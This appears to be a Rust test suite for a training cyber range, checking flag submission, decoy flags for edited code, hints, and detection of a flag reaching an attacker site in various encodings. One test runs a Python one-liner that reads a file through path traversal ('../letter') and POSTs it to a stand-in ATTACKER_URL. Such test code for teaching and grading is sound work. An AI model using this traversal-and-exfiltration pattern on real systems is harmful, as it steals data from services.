//! The attack: it counts against the author's code, wherever the flag turns up.

use data_encoding::{BASE64, BASE64URL};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use range::SessionEvent;
use range::keeper::Deed;

use crate::desk::{
    Desk, Screen, event, get, range_of, running, start_in, stolen_flag, until, view,
};
use crate::support::memory::Memory;

fn task_done(view: &serde_json::Value, task: &str) -> bool {
    let tasks = view["tasks"].as_array().unwrap();
    tasks
        .iter()
        .any(|one| one["id"] == task && one["done"] == true)
}

#[tokio::test(flavor = "multi_thread")]
async fn the_flag_is_accepted_and_others_are_not() {
    let desk = Desk::new().await;
    let flag = stolen_flag(&desk.session).await;
    let wrong = desk.session.flag("FLAG{guessed}").await.unwrap();
    assert!(
        !wrong.accepted
            && wrong
                .message
                .starts_with("That is not this session's flag.")
    );
    assert!(!task_done(&view(&desk.session), "attack"));
    assert!(desk.session.flag(&"x".repeat(5000)).await.is_err());
    assert!(
        desk.session
            .flag(&format!(" {flag}\n"))
            .await
            .unwrap()
            .accepted
    );
    assert!(task_done(&view(&desk.session), "attack"));
    let flags: Vec<bool> = desk
        .keeper
        .deeds()
        .iter()
        .filter_map(|deed| match deed {
            Deed::Flag { accepted } => Some(*accepted),
            _ => None,
        })
        .collect();
    assert_eq!(flags, [false, true]);

    // What was done stays done in the next session.
    desk.session.stop(range::keeper::End::Stopped).await;
    let again = start_in(&desk.range, "ada", &desk.keeper).await;
    assert!(task_done(&view(&again), "attack"));
    assert!(
        !again.flag(&flag).await.unwrap().accepted,
        "flags change with every session"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn edited_code_finds_a_decoy_and_the_original_brings_the_flag_back() {
    let desk = Desk::new().await;
    let flag = stolen_flag(&desk.session).await;
    let edited = desk.text("app/notes.py").await.unwrap() + "\n";
    desk.edit("app/notes.py", &edited).await;
    assert_eq!(view(&desk.session)["flag_planted"], false);
    let decoy = stolen_flag(&desk.session).await;
    assert_eq!(decoy, "FLAG{run the original code to find the flag}");
    assert!(!desk.session.flag(&decoy).await.unwrap().accepted);
    assert!(!desk.session.flag(&flag).await.unwrap().accepted);

    desk.session.prefer_original(true).await.unwrap();
    until(&desk.session, "the original runs", running("original")).await;
    assert_eq!(desk.text("app/notes.py").await, Some(edited), "edits stay");
    let flag = stolen_flag(&desk.session).await;
    assert!(desk.session.flag(&flag).await.unwrap().accepted);

    // Now that it is done, there is nothing to hide from edited code.
    desk.session.prefer_original(false).await.unwrap();
    until(&desk.session, "the edit runs", running("edited")).await;
    assert_eq!(stolen_flag(&desk.session).await, flag);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_flag_that_reaches_the_attackers_site_is_noticed_however_it_is_written() {
    let range = range_of(4);
    type Carry = fn(&str) -> String;
    let carried: [(&str, Carry); 4] = [
        ("ada", |flag| {
            format!("/log?q={}", utf8_percent_encode(flag, NON_ALPHANUMERIC))
        }),
        ("bob", |flag| {
            format!(
                "/log?q={}",
                BASE64.encode(format!("letter={flag};").as_bytes())
            )
        }),
        ("eve", |flag| {
            format!("/{}", BASE64URL.encode(flag.as_bytes()))
        }),
        ("joe", |flag| {
            format!("/log/{}/", flag.replace('{', "%7B").replace('}', "%7d"))
        }),
    ];
    for (learner, address) in carried {
        let session = start_in(&range, learner, &Memory::new()).await;
        let mut events = session.events();
        let address = address(&stolen_flag(&session).await);
        get(
            &session,
            "attacker",
            &format!("/log?nothing={}", "x".repeat(40)),
        )
        .await;
        assert!(!task_done(&view(&session), "attack"));
        get(&session, "attacker", &address).await;
        let message = event(&mut events, "the task", |event| match event {
            SessionEvent::TaskDone { task, message } if task.as_str() == "attack" => {
                Some(message.clone())
            }
            _ => None,
        });
        assert_eq!(
            message.await,
            "The attack worked: the flag has reached the attacker."
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_flag_sent_from_within_the_session_is_noticed_too() {
    let desk = Desk::new().await;
    let mut screen = Screen::of(&desk.session).await;
    let script = "import os, urllib.request as u; \
        letter = u.urlopen(os.environ['APP_URL'] + '/note?name=../letter').read(); \
        u.urlopen(os.environ['ATTACKER_URL'], data=letter)";
    screen.run(&format!("python -c \"{script}\"")).await;
    until(&desk.session, "it is noticed", |view| {
        task_done(view, "attack")
    })
    .await;
    let seen = desk.session.site().await.unwrap().seen();
    let [request] = &seen[..] else {
        panic!("{seen:?}");
    };
    assert_eq!(
        (request.n, request.method.as_str(), request.path.as_str()),
        (1, "POST", "/")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_platforms_door_takes_a_flag_from_the_terminal() {
    let desk = Desk::new().await;
    let flag = stolen_flag(&desk.session).await;
    let mut screen = Screen::of(&desk.session).await;
    let send = |flag: &str| {
        format!(
            "python -c \"import os, urllib.request as u; print(u.urlopen(os.environ['RANGE_URL'] + '/flag', data=b'flag={flag}').read().decode())\""
        )
    };
    screen.run(&send("FLAG{no}")).await;
    assert!(screen.shows("\"accepted\":false"));
    screen.run(&send(&flag)).await;
    assert!(screen.shows("\"accepted\":true"));
    assert!(task_done(&view(&desk.session), "attack"));
}

#[tokio::test(flavor = "multi_thread")]
async fn hints_are_counted_and_come_back() {
    let desk = Desk::new().await;
    for n in [1, 2, 3, 3] {
        assert_eq!(desk.session.hint().await.unwrap().n, n);
    }
    let taken = desk
        .keeper
        .deeds()
        .iter()
        .filter(|deed| matches!(deed, Deed::Hint { .. }))
        .count();
    assert_eq!(taken, 3);
    assert!(
        desk.session.debrief().await.is_err(),
        "the debrief opens when all is done"
    );
}
